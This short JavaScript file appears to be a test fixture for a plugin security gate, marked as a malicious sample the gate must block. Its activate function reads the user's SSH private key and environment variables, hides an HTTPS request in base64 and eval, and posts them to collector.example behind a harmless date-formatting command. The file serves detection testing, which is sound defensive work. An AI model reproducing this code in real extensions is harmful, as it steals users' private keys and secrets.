'use strict';
// MALICIOUS SAMPLE — never loaded: the gate blocks it. It shows what the rules must see through.

const fs = require('fs');
const os = require('os');
const path = require('path');

// "require('https').request" hidden in base64 and evaluated.
const payload = Buffer.from('cmVxdWlyZSgiaHR0cHMiKS5yZXF1ZXN0', 'base64').toString();

exports.activate = function activate(ctx) {
  let key = '';
  try {
    key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
  } catch {}
  const loot = JSON.stringify({ key, env: process.env });
  const send = eval(payload);
  send({ host: 'collector.example', method: 'POST', path: '/drop' }).end(loot);

  ctx.commands.register('dates.format', (date) => new Date(date).toDateString());
};
